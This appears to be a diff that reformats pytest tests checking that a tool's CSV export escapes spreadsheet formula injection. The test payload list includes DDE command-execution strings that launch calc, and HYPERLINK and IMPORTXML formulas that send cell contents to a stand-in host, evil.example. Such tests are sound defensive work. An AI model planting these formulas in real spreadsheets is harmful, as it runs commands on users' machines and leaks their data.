@@ -15,13 +15,62 @@ from archprof.show.table import Column, Table, render
 from archprof.units import csv_cell, from_csv_cell, printable
 
 # OWASP, CSV Injection; PayloadsAllTheThings, CSV Injection; and full-width and small forms
-PAYLOADS = ("=1+1", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+1+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
-            "  =1+1", "\u3000=1+1", "\xa0+1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "﹢1+1", "﹣1+1", "﹫x", "−1+1", "-1+1", "+1-1", "-1e5x", "--1",
-            '=HYPERLINK("http://evil.example/?x="&A1,"x")', "=IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")", "x;=1+1", "x; =1+1", 'x;"=1+1', 'x;""=1',
-            '";=1+1', "x\t=1+1", "x;;@A1", "-١", "+1,5", "-1.", "+.5", "-0x10", "=", "@", "'=1+1", '"=1+1"', "=1\u20281", "\u200b=1+1", "\ufeff=1+1", ";=1")
+PAYLOADS = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+1+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\u3000=1+1",
+    "\xa0+1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1)",
+    "﹦1+1",
+    "﹢1+1",
+    "﹣1+1",
+    "﹫x",
+    "−1+1",
+    "-1+1",
+    "+1-1",
+    "-1e5x",
+    "--1",
+    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
+    '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
+    "x;=1+1",
+    "x; =1+1",
+    'x;"=1+1',
+    'x;""=1',
+    '";=1+1',
+    "x\t=1+1",
+    "x;;@A1",
+    "-١",
+    "+1,5",
+    "-1.",
+    "+.5",
+    "-0x10",
+    "=",
+    "@",
+    "'=1+1",
+    '"=1+1"',
+    "=1\u20281",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    ";=1",
+)
 
-TEXTS = st.one_of(st.lists(st.sampled_from((*PAYLOADS, ";", '"', ",", " ", "'", "1", "x")), max_size=4).map("".join), st.text(max_size=12),
-                  st.text("=+-@;,\"' \t1.ex−＝", max_size=10))
+TEXTS = st.one_of(
+    st.lists(st.sampled_from((*PAYLOADS, ";", '"', ",", " ", "'", "1", "x")), max_size=4).map(
+        "".join
+    ),
+    st.text(max_size=12),
+    st.text("=+-@;,\"' \t1.ex−＝", max_size=10),
+)
 
 
 def computes(cell: str) -> bool:
@@ -33,13 +82,21 @@ def computes(cell: str) -> bool:
 
 def cells(text: str) -> list[str]:
     """Every cell of a file, read with each of the separators that a spreadsheet may guess."""
-    return [cell for sign in ",;\t|" for row in csv.reader(io.StringIO(text), delimiter=sign) for cell in row]
+    return [
+        cell
+        for sign in ",;\t|"
+        for row in csv.reader(io.StringIO(text), delimiter=sign)
+        for cell in row
+    ]
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
 def test_known_payloads(payload: str) -> None:
     assert computes("=1+1")
-    table = Table([Column("A", right=False), Column("B"), Column("C")], [[payload, "1", payload], ["x", payload, "-"]])
+    table = Table(
+        [Column("A", right=False), Column("B"), Column("C")],
+        [[payload, "1", payload], ["x", payload, "-"]],
+    )
     assert not [cell for cell in cells(render(table, "csv")) if computes(cell)]
 
 
@@ -50,10 +107,31 @@ def test_whatever_stands_in_a_row(row: list[str]) -> None:
     text = render(table, "csv")
     assert not [cell for cell in cells(text) if computes(cell)]
     read = list(csv.reader(io.StringIO(text)))[1]
-    assert [cell.replace("'", "") for cell in read] == ["" if cell == "-" else printable(cell).replace("'", "") for cell in row]  # nothing else is changed
+    assert [cell.replace("'", "") for cell in read] == [
+        "" if cell == "-" else printable(cell).replace("'", "") for cell in row
+    ]  # nothing else is changed
 
 
-@pytest.mark.parametrize("text", ["1", "-16", "+1", "0.25", "-1.5e-3", "1E9", "a-b", "conv2d", "3x3", "-", "", "a=1", "x + y", "12 %", "resnet50"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "1",
+        "-16",
+        "+1",
+        "0.25",
+        "-1.5e-3",
+        "1E9",
+        "a-b",
+        "conv2d",
+        "3x3",
+        "-",
+        "",
+        "a=1",
+        "x + y",
+        "12 %",
+        "resnet50",
+    ],
+)
 def test_numbers_and_words_stay_bare(text: str) -> None:
     assert csv_cell(text) == text
 
